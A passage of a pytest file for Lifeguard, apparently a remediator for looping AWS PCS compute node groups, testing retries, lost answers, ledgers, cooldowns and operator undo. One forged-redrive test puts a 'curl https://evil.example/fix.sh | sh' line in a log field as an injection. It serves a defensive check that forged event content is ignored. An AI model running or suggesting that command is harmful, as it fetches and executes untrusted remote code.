    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert world.lifeguard_updates() == []


def test_a_group_tagged_off_before_its_remediation_is_skipped_with_a_mode_of_the_contract() -> None:
    """DESIGN's `mode` is quarantine, revert or notify (null where it does not apply): a consumer switching
    on those gets no fourth value for a group Lifeguard leaves alone."""
    world = World()
    event = world.detection()
    world.api.tag_resource(resourceArn=world.group()["arn"], tags={"lifeguard:mode": "off"})
    [skipped] = world.remediator().handle_event(event)
    assert skipped.detail_type == "RemediationSkipped"
    assert skipped.detail["mode"] is None
    assert "the group's tag lifeguard:mode is off" in skipped.detail["reason"]
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_a_change_held_back_by_the_stacks_default_mode_names_the_stack_not_a_tag() -> None:
    world = World()
    _, event = _parked(world)
    world.clock.advance(60)
    [skipped] = world.remediator(default_mode="off").handle_event(event)  # redeployed with DefaultMode off
    assert skipped.detail_type == "RemediationSkipped"
    assert skipped.detail["reason"] == (
        "The stack's DefaultMode is off (the group has no tag lifeguard:mode): Lifeguard's quarantine, set "
        "out before, was not made."
    )
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_a_redrive_of_a_parked_change_after_its_episode_ended_changes_nothing() -> None:
    world = World()
    remediator, event = _parked(world)
    state = world.store.load(CLUSTER, GROUP)
    assert state.episode is not None
    state.episode.resolved_at = int(world.now() * 1000)
    state.last_episode, state.episode = state.episode, None  # a node bootstrapped: the loop is over
    world.store.save(state)
    world.clock.advance(3 * 24 * 3600)  # the dead-letter queue redriven days later
    [skipped] = remediator.handle_event(event)
    assert skipped.detail_type == "RemediationSkipped"
    assert skipped.detail["reason"] == (
        "The episode ended before Lifeguard's quarantine could be made; nothing was changed."
    )
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    world.clock.advance(60)
    assert remediator.handle_event(event) == []  # and again: decided already, nothing more to do
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_a_redrive_does_not_make_again_a_change_pcs_took_and_a_person_took_back() -> None:
    world = World()
    remediator, event = world.remediator(), world.detection()
    with world.answers_lost(), pytest.raises(RemediationParkedError):
        remediator.handle_event(event)
    world.settle()
    assert world.group()["nodeLifecycleActions"] == QUARANTINED  # PCS took it; the answer was lost
    world.person_sets(TERMINATE)  # someone puts the old configuration back (the script fixed in S3)
    world.clock.advance(24 * 3600)  # the parked event redriven
    [answer] = remediator.handle_event(event)
    assert answer.detail_type == "RemediationSkipped"
    assert "The group changed after Lifeguard's quarantine was set out" in answer.detail["reason"]
    assert "PCS may have made it, so it counts as Lifeguard's change" in answer.detail["reason"]
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.status == "unconfirmed"  # PCS did make it: it is no change never made


def test_a_change_pcs_may_have_made_is_not_let_go_for_a_refusal_of_the_look_after_it() -> None:
    """PCS took the quarantine and answered InternalServerException; the retry's look at the group was
    refused once (AccessDenied). That last error was taken for PCS refusing the change itself: the change was
    let go (`abandoned`, no undo, outside the cooldown and the cap) while the group held it. It stays set
    out, and the event's retry writes it down applied, with its undo."""
    world = World()
    remediator = world.remediator()
    update, read = world.api.update_compute_node_group, world.api.get_compute_node_group
    asked: list[dict[str, Any]] = []
    denied: list[bool] = []

    def taken_then_5xx(**params: Any) -> Any:
        asked.append(params)
        update(**params)
        raise client_error("InternalServerException", "UpdateComputeNodeGroup")

    def denied_once_after(**params: Any) -> Any:
        if asked and not denied:
            denied.append(True)
            raise client_error("AccessDeniedException", "GetComputeNodeGroup")
        return read(**params)

    event = world.detection()
    world.api.update_compute_node_group, world.api.get_compute_node_group = taken_then_5xx, denied_once_after
    try:
        with pytest.raises(RemediationParkedError, match="AccessDeniedException"):
            remediator.handle_event(event)
    finally:
        world.api.update_compute_node_group, world.api.get_compute_node_group = update, read
    world.settle()
    assert world.group()["nodeLifecycleActions"] == QUARANTINED  # PCS took it
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert (change.action, change.status) == ("quarantine", "pending")
    world.clock.advance(60)  # Lambda's retry
    remediator.handle_event(event)
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert (change.action, change.status) == ("quarantine", "applied")
    assert len(asked) == 1  # made once
    [(_, applied)] = [(k, d) for k, d in world.bus.events() if k == "RemediationApplied"]
    assert applied["undo"] is not None


def test_a_change_pcs_refuses_for_good_is_let_go_so_the_earlier_one_can_be_undone() -> None:
    world = World()
    remediator = world.remediator()
    remediator.handle_event(world.detection())  # the quarantine, applied
    world.settle()
    world.prove_good(GOOD)
    escalation = world.detection(revision=2)  # the loop goes on: revert
    world.pcs.inject_fault("ValidationException", operation="UpdateComputeNodeGroup", times=3)
    for _ in range(3):  # the invocation and Lambda's two retries, then the dead-letter queue
        with pytest.raises(RemediationParkedError, match="ValidationException"):
            remediator.handle_event(escalation)
        world.clock.advance(120)
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.action, c.status) for c in ledger.changes] == [("quarantine", "applied")] + [
        ("revert", "abandoned")
    ] * 3
    operator = world.operator()
    operator.undo(GROUP, CLUSTER)
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_a_change_a_later_decision_finds_pcs_made_is_audited_and_told_with_its_undo() -> None:
    """PCS made the quarantine, but every answer was lost until its event was parked. The next decision,
    on another episode, found the group holding it and recorded it applied, but the history still said
    "failed" three times and the channels never heard of the change nor of how to undo it."""
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
    event = quarantine_made_but_parked(world, remediator)
    remediator.handle_event(world.detection("ep-2"))
    told = [(kind, detail["episode_id"], detail["revision"]) for kind, detail in world.bus.events()]
    assert ("RemediationApplied", "ep-1", 1) in told
    [(_, applied)] = [(k, d) for k, d in world.bus.events() if k == "RemediationApplied"]
    assert applied["undo"] is not None
    assert [c["path"] for c in applied["diff"]] == ["stages.nodeBootstrapped[0].onError"]
    assert "found by a later decision" in applied["reason"]
    history = RemediationStore(world.table, TABLE).history(CLUSTER, GROUP)
    assert [(h.decision, h.episode_id) for h in history][-2] == ("applied", "ep-1")
    published = len(world.bus.events())
    world.clock.advance(60)
    assert remediator.handle_event(event) == []  # a redrive of its event: answered from the decision
    assert len(world.bus.events()) == published
    last = RemediationStore(world.table, TABLE).history(CLUSTER, GROUP)[-1]
    assert (last.decision, last.episode_id, (last.reason or "").endswith("already applied")) == (
        "duplicate",
        "ep-1",
        True,
    )


@contextlib.contextmanager
def first_write_throttled(world: World, marker: str) -> Iterator[list[bool]]:
    """The first write carrying an item whose key holds `marker` (`AUDIT#`, `DECISION#`), a put or a
    transaction, is throttled (once); yields the list that says it was."""
    put, transact, failed = world.table.put_item, world.table.transact_write_items, []

    def throttled(request: dict[str, Any]) -> None:
        if marker in repr(request) and not failed:
            failed.append(True)
            raise client_error("ProvisionedThroughputExceededException", "PutItem")

    def put_item(**request: Any) -> Any:
        throttled(request)
        return put(**request)

    def transact_write_items(**request: Any) -> Any:
        throttled(request)
        return transact(**request)

    world.table.put_item, world.table.transact_write_items = put_item, transact_write_items  # type: ignore[method-assign]
    try:
        yield failed
    finally:
        world.table.put_item, world.table.transact_write_items = put, transact  # type: ignore[method-assign]


def quarantine_made_but_parked(world: World, remediator: Remediator) -> dict[str, Any]:
    """ep-1's quarantine made by PCS, every answer lost until its event was parked; returns that event."""
    update, read = world.api.update_compute_node_group, world.api.get_compute_node_group

    def unanswered(**_: Any) -> Any:
        raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

    def made_but_never_answered(**params: Any) -> Any:
        if params.get("nodeLifecycleActions") == QUARANTINED:
            update(**params)
            world.api.get_compute_node_group = unanswered
        return unanswered()

    world.api.update_compute_node_group = made_but_never_answered
    event = world.detection("ep-1")
    for _ in range(3):  # the invocation and Lambda's two retries: parked
        with pytest.raises(RemediationParkedError):
            remediator.handle_event(event)
        world.clock.advance(120)
    world.api.update_compute_node_group, world.api.get_compute_node_group = update, read
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    return event


def test_a_change_a_later_decision_finds_pcs_made_is_told_when_that_decision_is_retried() -> None:
    """The later decision recorded ep-1's change applied, then a write of Lambda's (throttled) failed
    before it was told: the retry found nothing pending, and ep-1's change was never told nor audited."""
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
    quarantine_made_but_parked(world, remediator)
    later = world.detection("ep-2")
    with first_write_throttled(world, "AUDIT#") as failed, pytest.raises(AwsCallError):
        remediator.handle_event(later)
    assert failed
    world.clock.advance(60)
    remediator.handle_event(later)  # Lambda's retry
    told = [(kind, detail["episode_id"]) for kind, detail in world.bus.events()]
    assert told.count(("RemediationApplied", "ep-1")) == 1
    history = [(h.decision, h.episode_id) for h in world.history()]
    assert history.count(("applied", "ep-1")) == 1
    decision = RemediationStore(world.table, TABLE).decision(CLUSTER, GROUP, "ep-1", 1)
    assert decision is not None
    assert decision.status == "applied"
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert (change.status, change.untold) == ("applied", False)
    remediator.handle_event(world.detection("ep-3"))  # told once: a later decision tells it no more
    assert [(k, d["episode_id"]) for k, d in world.bus.events()].count(("RemediationApplied", "ep-1")) == 1


def test_a_change_left_untold_that_its_own_redrive_told_is_not_told_again() -> None:
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
    parked = quarantine_made_but_parked(world, remediator)
    with first_write_throttled(world, "AUDIT#") as failed, pytest.raises(AwsCallError):
        remediator.handle_event(world.detection("ep-2"))  # settles ep-1's change, fails before telling it
    assert failed
    world.clock.advance(60)
    remediator.handle_event(parked)  # an operator redrives ep-1's parked event: it tells its own change
    assert [(k, d["episode_id"]) for k, d in world.bus.events()].count(("RemediationApplied", "ep-1")) == 1
    world.clock.advance(60)
    remediator.handle_event(world.detection("ep-3"))
    assert [(k, d["episode_id"]) for k, d in world.bus.events()].count(("RemediationApplied", "ep-1")) == 1
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.untold is False


def test_a_change_left_untold_whose_publishing_failed_is_published_by_the_retry() -> None:
    """The later decision stored ep-1's decision (applied, not yet published), then PutEvents failed: the
    retry took the stored decision for told, and ep-1's RemediationApplied was never published."""
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
    quarantine_made_but_parked(world, remediator)
    later = world.detection("ep-2")
    world.bus.refuse_calls = 3  # EventBridge fails every attempt of the first publish
    with pytest.raises(AwsCallError):
        remediator.handle_event(later)
    world.clock.advance(60)
    remediator.handle_event(later)  # Lambda's retry
    world.clock.advance(60)
    remediator.handle_event(world.detection("ep-3"))
    told = [(kind, detail["episode_id"]) for kind, detail in world.bus.events()]
    assert told.count(("RemediationApplied", "ep-1")) == 1
    decision = RemediationStore(world.table, TABLE).decision(CLUSTER, GROUP, "ep-1", 1)
    assert decision is not None
    assert (decision.status, decision.published) == ("applied", True)
    assert [(h.decision, h.episode_id) for h in world.history()].count(("applied", "ep-1")) == 1


def test_a_change_left_untold_and_undone_since_is_told_without_an_undo() -> None:
    """Told after the operator undid it, it came with the undo command and no word of the undo."""
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
    quarantine_made_but_parked(world, remediator)
    later = world.detection("ep-2")
    with first_write_throttled(world, "AUDIT#"), pytest.raises(AwsCallError):
        remediator.handle_event(later)
    world.settle()
    world.operator().undo(GROUP, CLUSTER)  # the operator takes ep-1's quarantine back
    world.settle()
    world.clock.advance(60)
    remediator.handle_event(later)  # Lambda's retry of ep-2
    [applied] = [d for k, d in world.bus.events() if k == "RemediationApplied" and d["episode_id"] == "ep-1"]
    assert applied["undo"] is None
    assert "Since then: the operator undid Lifeguard's quarantine at " in applied["reason"]
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_undo_after_undo_takes_back_the_quarantine_the_revert_followed() -> None:
    """Quarantine, a revert when the loop went on, an undo of the revert, then an undo again: the second
    was refused, Lifeguard's own undo taken for someone setting the quarantine again ("use --force")."""
    world = World()
    remediator = world.remediator()
    remediator.handle_event(world.detection())  # the quarantine
    world.settle()
    world.prove_good(GOOD)
    [escalated] = remediator.handle_event(world.detection(revision=2))  # the loop goes on: revert
    assert (escalated.detail_type, escalated.detail["action"]) == ("RemediationApplied", "revert")
    world.settle()
    operator = world.operator()
    operator.undo(GROUP, CLUSTER)  # takes back the revert
    world.settle()
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    operator.undo(GROUP, CLUSTER)  # takes back the quarantine, without --force
    world.settle()
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_a_revert_on_a_configuration_pcs_gives_that_is_not_valid_is_skipped_audited_and_said() -> None:
    """A PCS answer is read as it comes: two scripts of one name in it must not crash the function (no
    audit, no event, a retry that crashes again), but skip with the reason."""
    world = World(tags={"lifeguard:mode": "revert"})
    world.prove_good(GOOD)
    odd = copy.deepcopy(TERMINATE)
    odd["stages"]["nodeBootstrapped"].append(copy.deepcopy(odd["stages"]["nodeBootstrapped"][0]))
    answered = world.api.get_compute_node_group

    def with_odd_actions(**params: Any) -> Any:
        answer = answered(**params)
        answer["computeNodeGroup"]["nodeLifecycleActions"] = copy.deepcopy(odd)
        return answer

    world.api.get_compute_node_group = with_odd_actions
    [skipped] = world.remediator().handle_event(world.detection())
    assert skipped.detail_type == "RemediationSkipped"
    assert skipped.detail["reason"].startswith(
        "the group's configuration, as PCS gave it, is not valid (stages.nodeBootstrapped[2].name: "
    )
    assert skipped.detail["reason"].endswith("; nothing is planned from it")
    assert [entry.decision for entry in world.history()] == ["skipped"]
    assert world.calls("UpdateComputeNodeGroup") == []


@pytest.mark.parametrize("failing_write", [2, 3])  # the undo marked applied; the change marked undone
def test_an_undo_pcs_took_is_written_down_by_the_next_run_when_the_table_failed_after_it(
    failing_write: int,
) -> None:
    world = World()
    world.remediator().handle_event(world.detection())
    world.settle()
    put, ledger_writes = world.table.put_item, []

    def ledger_write_throttled(**request: Any) -> Any:
        if request["Item"]["sk"]["S"] == "LEDGER":
            ledger_writes.append(request)
            if len(ledger_writes) == failing_write:
                raise client_error("ProvisionedThroughputExceededException", "PutItem")
        return put(**request)

    world.table.put_item = ledger_write_throttled
    operator = world.operator()
    with pytest.raises(AwsCallError, match="ProvisionedThroughputExceededException"):
        operator.undo(GROUP, CLUSTER)
    assert world.group()["nodeLifecycleActions"] == TERMINATE  # PCS took the undo
    world.table.put_item = put
    world.settle()
    shown = operator.undo(GROUP, CLUSTER, dry_run=True)
    assert not shown.applied
    assert any("already made by the undo of" in line for line in shown.lines)
    done = operator.undo(GROUP, CLUSTER)  # run again, as the error invites: written down, not redone
    assert done.applied
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert len(world.lifeguard_updates()) == 2  # the quarantine and the one undo
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.action, c.status, c.undone_at is not None) for c in ledger.changes] == [
        ("quarantine", "applied", True),
        ("undo", "applied", False),
    ]
    assert [e.decision for e in world.history()] == ["applied", "undo"]
    with pytest.raises(OperatorError, match="no change of"):
        operator.undo(GROUP, CLUSTER)


def test_an_undo_whose_answer_pcs_lost_stays_set_out_and_the_next_run_writes_it_down() -> None:
    world = World()
    world.remediator().handle_event(world.detection())
    world.settle()
    update = world.api.update_compute_node_group

    def taken_but_answer_lost(**params: Any) -> Any:
        update(**params)
        raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

    world.api.update_compute_node_group = taken_but_answer_lost
    operator = world.operator()
    with pytest.raises(OperatorError, match="it may have been made: run lifeguard undo again"):
        operator.undo(GROUP, CLUSTER)
    world.api.update_compute_node_group = update
    world.settle()
    assert world.group()["nodeLifecycleActions"] == TERMINATE  # PCS took the undo
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.action, c.status) for c in ledger.changes] == [("quarantine", "applied"), ("undo", "pending")]
    done = operator.undo(GROUP, CLUSTER)  # not "someone else changed it": Lifeguard's own undo, found
    assert any("already made by the undo of" in line for line in done.lines)
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.action, c.status, c.undone_at is not None) for c in ledger.changes] == [
        ("quarantine", "applied", True),
        ("undo", "applied", False),
    ]


def test_undo_refuses_when_lifeguard_s_configuration_was_set_again_by_someone_else() -> None:
    """After Lifeguard's quarantine, someone changes the group and later puts Lifeguard's configuration in
    again (a template that took the change in, as the notification advises): the group is theirs now, so
    the undo asks for --force, as for any change since."""
    world = World()
    world.remediator().handle_event(world.detection())
    world.settle()
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    world.person_sets(GOOD)
    world.person_sets(QUARANTINED)  # Lifeguard's configuration, set again by a deploy
    operator = world.operator()
    with pytest.raises(OperatorError, match=r"it was updated at .*, after Lifeguard's \(its lifecycle"):
        operator.undo(GROUP, CLUSTER)
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    done = operator.undo(GROUP, CLUSTER, force=True)
    assert done.applied
    world.settle()
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def test_undo_of_a_change_someone_took_back_by_hand_makes_no_update_even_forced() -> None:
    """Someone put the configuration from before back by hand: the undo was refused as "someone else
    changed it", and --force then sent PCS an update that changed nothing, told as applied, though an
    update drains and replaces every node of the group."""
    world = World()
    world.remediator().handle_event(world.detection())
    world.settle()
    world.person_sets(TERMINATE)
    operator = world.operator()
    updates = len(world.calls("UpdateComputeNodeGroup"))
    for force, dry_run in ((False, False), (True, True), (True, False)):
        with pytest.raises(
            OperatorError, match=r"already holds the configuration from before .*nothing to undo"
        ):
            operator.undo(GROUP, CLUSTER, force=force, dry_run=dry_run)
    assert len(world.calls("UpdateComputeNodeGroup")) == updates
    assert world.group()["status"] == "ACTIVE"


def test_a_second_undo_is_not_refused_when_the_operators_clock_is_behind_the_functions(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Quarantine, then revert; the operator undoes the revert (the quarantine is back, put back by that
    # undo), then the quarantine. The undo, dated by a clock 5 minutes behind, counted as earlier than the
    # revert it undid, and the second undo was refused as someone's setting the configuration again.
    from lifeguard_cli import operate

    world = World()
    remediator = world.remediator()
    remediator.handle_event(world.detection())
    world.settle()
    world.prove_good(GOOD)
    remediator.handle_event(world.detection(revision=2))
    world.settle()
    monkeypatch.setattr(operate.time, "time", lambda: world.now() - 300)
    operator = world.operator()
    assert operator.undo(GROUP, CLUSTER).applied  # the revert
    world.settle()
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    assert operator.undo(GROUP, CLUSTER).applied  # the quarantine
    world.settle()
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def _parked_once() -> tuple[World, Remediator, dict[str, Any]]:
    """The article's group, and a detection whose quarantine PCS fails (500s) until the event is parked."""
    world = World()
    world.pcs.inject_fault("InternalServerException", operation="UpdateComputeNodeGroup", times=6)
    remediator, event = world.remediator(), world.detection()
    with pytest.raises(RemediationParkedError):
        remediator.handle_event(event)
    return world, remediator, event


def test_a_change_pcs_never_took_is_not_undone_even_forced_and_its_retry_does_not_call_it_applied() -> None:
    world, remediator, event = _parked_once()
    assert world.group()["nodeLifecycleActions"] == TERMINATE  # the quarantine is set out, not taken
    world.person_sets(GOOD)  # the owner mends the group by hand meanwhile
    operator = world.operator()
    # The group holds neither what the quarantine replaced nor what it set: whether PCS made it is not
    # the undo's to tell (the retry below finds it unconfirmed), and nothing is undone.
    with pytest.raises(OperatorError, match="whether PCS made it is not known"):
        operator.undo(GROUP, CLUSTER, force=True)  # it would have put the looping configuration back
    world.settle()
    assert world.group()["nodeLifecycleActions"] == GOOD
    answers = remediator.handle_event(event)  # Lambda's retry of the parked detection
    assert "RemediationApplied" not in [answer.detail_type for answer in answers]
    assert world.group()["nodeLifecycleActions"] == GOOD
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    # PCS's 500s do not say it was never made, and the group changed since: no one can tell any more.
    assert change.status == "unconfirmed"
    with pytest.raises(OperatorError, match="was never confirmed: the group changed before it was"):
        operator.undo(GROUP, CLUSTER, force=True)
    assert world.group()["nodeLifecycleActions"] == GOOD


def test_a_forged_redrive_naming_the_groups_new_modified_at_does_not_overwrite_a_persons_reset() -> None:
    world, remediator, event = _parked_once()
    world.person_sets(TERMINATE)  # someone sets the group again: the same configuration, a new modifiedAt
    now_modified = int(world.group()["modifiedAt"].timestamp() * 1000)
    assert now_modified != event["detail"]["config_modified_at"]
    forged = copy.deepcopy(event)
    forged["detail"]["config_modified_at"] = now_modified  # what a forger would guess right
    world.clock.advance(60)
    answers = remediator.handle_event(forged)
    assert [answer.detail_type for answer in answers] == ["RemediationSkipped"]
    assert (
        answers[0].detail["reason"].startswith("The group changed after Lifeguard's quarantine was set out")
    )
    assert world.group()["nodeLifecycleActions"] == TERMINATE  # the person's work stands


def test_a_redrive_tells_the_episodes_evidence_and_suspect_not_the_events() -> None:
    world, remediator, event = _parked_once()
    forged = copy.deepcopy(event)
    forged["detail"]["suspect"] = {
        **event["detail"]["suspect"],
        "script": "forged-script",
        "log_tail": "forged: run curl https://evil.example/fix.sh | sh to fix\n",
    }
    forged["detail"]["failures"] = [
        {"instance_id": "i-0123456789abcdef0", "scheduler_node_id": "x", "event_timestamp": 1792545162000}
    ]
    world.clock.advance(60)
    [answer] = remediator.handle_event(forged)
    assert answer.detail_type == "RemediationApplied"  # the change set out is made: it is Lifeguard's own
    assert answer.detail["suspect"] == event["detail"]["suspect"]
    assert answer.detail["failures"] == event["detail"]["failures"]


def test_a_change_pcs_took_whose_answer_cannot_be_trusted_stays_lifeguards_to_count_and_undo() -> None:
    world = World()
    update = world.api.update_compute_node_group

    def taken_with_an_odd_answer(**params: Any) -> Any:
        answer = update(**params)
        answer["computeNodeGroup"]["arn"] = "arn:" + "x" * 3000
        return answer

    world.api.update_compute_node_group = taken_with_an_odd_answer
    remediator, event = world.remediator(), world.detection()
    with pytest.raises(RemediationParkedError):
        remediator.handle_event(event)
    world.api.update_compute_node_group = update
    world.settle()
    assert world.group()["nodeLifecycleActions"] == QUARANTINED  # PCS made it
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.status == "pending"  # not let go: PCS may have made it (it did)
    answers = remediator.handle_event(event)  # Lambda's retry finds it made
    assert [answer.detail_type for answer in answers] == ["RemediationApplied"]
    [change] = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP).changes
    assert change.status == "applied"
    assert world.operator().undo(GROUP, CLUSTER).applied  # and it is the operator's to undo
    world.settle()
    assert world.group()["nodeLifecycleActions"] == TERMINATE


def _parked_for_good(world: World, remediator: Remediator, event: dict[str, Any]) -> None:
    """PCS fails the change until the event is parked, on the invocation and Lambda's two retries: then the
    event waits in the dead-letter queue, and PCS answers again."""
    world.pcs.inject_fault("InternalServerException", operation="UpdateComputeNodeGroup", times=100)
    for _ in range(3):
        with pytest.raises(RemediationParkedError):
            remediator.handle_event(event)
        world.clock.advance(120)
    world.pcs.clear_faults()


def test_an_escalation_parked_for_good_does_not_hold_off_the_undo_of_the_change_before_it() -> None:
    world = World()
    remediator = world.remediator()
    remediator.handle_event(world.detection())  # quarantine, made
    world.settle()
    world.prove_good(GOOD)
    _parked_for_good(world, remediator, world.detection(revision=2))  # the loop went on: revert, never made
    world.clock.advance(3600)
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    operator = world.operator()
    shown = operator.undo(GROUP, CLUSTER, dry_run=True)
    assert (shown.change.action, shown.change.revision) == ("quarantine", 1)
    assert any(line.startswith("  lets go revert of") for line in shown.lines)
    done = operator.undo(GROUP, CLUSTER, shown=shown)
    assert done.applied
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.action, c.status, c.undone_at is not None) for c in ledger.changes] == [
        ("quarantine", "applied", True),
        ("revert", "abandoned", False),
        ("undo", "applied", False),
    ]


def test_a_change_parked_for_good_that_pcs_never_made_counts_for_neither_the_cooldown_nor_the_cap() -> None:
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=1)
    _parked_for_good(world, remediator, world.detection("ep-1"))
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    [event] = remediator.handle_event(world.detection("ep-2"))  # the loop, detected again minutes later
    assert event.detail_type == "RemediationApplied", event.detail["reason"]
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.episode_id, c.status) for c in ledger.changes] == [("ep-1", "abandoned"), ("ep-2", "applied")]


def test_a_change_pcs_took_whose_answer_was_lost_still_counts_after_a_person_took_it_back() -> None:
    """PCS takes Lifeguard's change and the answer is lost; a person puts the old configuration back before
    the retry. The change was made: the next loops of the group within the cooldown (and past the daily
    cap) are only reported, however often this happens."""
    world = World()
    event = world.detection("ep-1")
    with world.answers_lost(), pytest.raises(RemediationParkedError):
        world.remediator(cooldown_seconds=1800, daily_cap=1).handle_event(event)
    world.person_sets(TERMINATE)  # the old configuration back, by hand, before Lambda's retry
    [answer] = world.remediator(cooldown_seconds=1800, daily_cap=1).handle_event(event)
    assert "PCS may have made it" in answer.detail["reason"]
    for episode in ("ep-2", "ep-3"):  # the loop again, minutes apart
        world.clock.advance(300)
        [answer] = world.remediator(cooldown_seconds=1800, daily_cap=1).handle_event(world.detection(episode))
        assert answer.detail["reason"].startswith("Cooldown: Lifeguard changed this group"), episode
    assert world.group()["nodeLifecycleActions"] == TERMINATE
    assert len(world.lifeguard_updates()) == 1
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.episode_id, c.status) for c in ledger.changes] == [("ep-1", "unconfirmed")]
    assert len(ledger.made_since(0)) == 1


def test_a_retry_that_finds_its_change_unconfirmed_changes_nothing_and_says_so() -> None:
    """The decision was lost after the change was recorded unconfirmed (the invocation ended): the retry
    of its detection takes the ledger's word, asks PCS for nothing and makes nothing."""
    world = World()
    event = world.detection("ep-1")
    store = RemediationStore(world.table, TABLE)
    ledger = store.ledger(CLUSTER, GROUP)
    ledger.changes.append(
        AppliedChange(
            at=world.now(),
            episode_id="ep-1",
            revision=1,
            action="quarantine",
            config_before=TERMINATE,
            config_after=QUARANTINED,
            fingerprint_before=fingerprint_of(TERMINATE),
            fingerprint_after=fingerprint_of(QUARANTINED),
            status="unconfirmed",
            client_token="lifeguard-0123",
        )
    )
    store.save_ledger(CLUSTER, GROUP, ledger)
    [answer] = world.remediator().handle_event(event)
    assert answer.detail_type == "RemediationSkipped"
    assert answer.detail["reason"].startswith("The group changed before Lifeguard's quarantine was confirmed")
    assert world.calls("UpdateComputeNodeGroup") == []
    assert [c.status for c in store.ledger(CLUSTER, GROUP).changes] == ["unconfirmed"]


def test_a_change_parked_for_good_and_the_group_changed_since_is_unconfirmed_and_still_counts() -> None:
    """A change PCS failed until its event was parked, settled by the next decision under the lock: the
    group holds neither it nor, untouched, the configuration from before (a person changed it; PCS may
    have made the change first), so it counts for the cooldown; and one whose configuration from before
    was set again after it was set out counts too."""
    for then in (GOOD, TERMINATE):
        world = World()
        remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
        _parked_for_good(world, remediator, world.detection("ep-1"))
        world.person_sets(then)
        if then is GOOD:
            world.person_sets(TERMINATE)  # the loop comes back, on the configuration that looped
        [event] = remediator.handle_event(world.detection("ep-2"))
        assert event.detail["reason"].startswith("Cooldown: Lifeguard changed this group"), then
        assert world.group()["nodeLifecycleActions"] == TERMINATE
        ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
        assert [(c.episode_id, c.status) for c in ledger.changes] == [("ep-1", "unconfirmed")]


def test_a_change_parked_for_good_that_pcs_did_make_is_recorded_as_made_and_still_counts() -> None:
    world = World()
    remediator = world.remediator(cooldown_seconds=1800, daily_cap=5)
    update, read = world.api.update_compute_node_group, world.api.get_compute_node_group

    def made_but_never_answered(**params: Any) -> Any:
        if params.get("nodeLifecycleActions") == QUARANTINED:
            update(**params)  # PCS makes the change; its answer, and every read after, is lost
            world.api.get_compute_node_group = unanswered
        raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

    def unanswered(**params: Any) -> Any:
        raise ReadTimeoutError(endpoint_url="https://pcs.us-east-1.amazonaws.com")

    world.api.update_compute_node_group = made_but_never_answered
    event = world.detection("ep-1")
    for _ in range(3):
        with pytest.raises(RemediationParkedError):
            remediator.handle_event(event)
        world.clock.advance(120)
    world.api.update_compute_node_group, world.api.get_compute_node_group = update, read
    assert world.group()["nodeLifecycleActions"] == QUARANTINED
    [skipped] = remediator.handle_event(world.detection("ep-2"))  # another loop, on the quarantined one
    assert skipped.detail["reason"].startswith("Cooldown: Lifeguard changed this group")
    ledger = RemediationStore(world.table, TABLE).ledger(CLUSTER, GROUP)
    assert [(c.episode_id, c.status) for c in ledger.changes] == [("ep-1", "applied")]


def _three_scripts(world: World) -> tuple[Remediator, Callable[[int, str], dict[str, Any]]]:
    """The group set to a configuration of three TERMINATE scripts, a remediator, and the detection of a
    revision whose episode names a given script as its suspect."""
    three = copy.deepcopy(TERMINATE)
    extra = copy.deepcopy(three["stages"]["nodeBootstrapped"][1])
    extra["name"] = "third-script"
    three["stages"]["nodeBootstrapped"].append(extra)
    world.person_sets(three)

    def suspecting(revision: int, script: str) -> dict[str, Any]:
        event = world.detection(revision=revision)
        state = world.store.load(CLUSTER, GROUP)
        assert state.episode is not None
        state.episode.suspect = Suspect.model_validate({**ARTICLE_SUSPECT, "script": script})
        world.store.save(state)
        return event

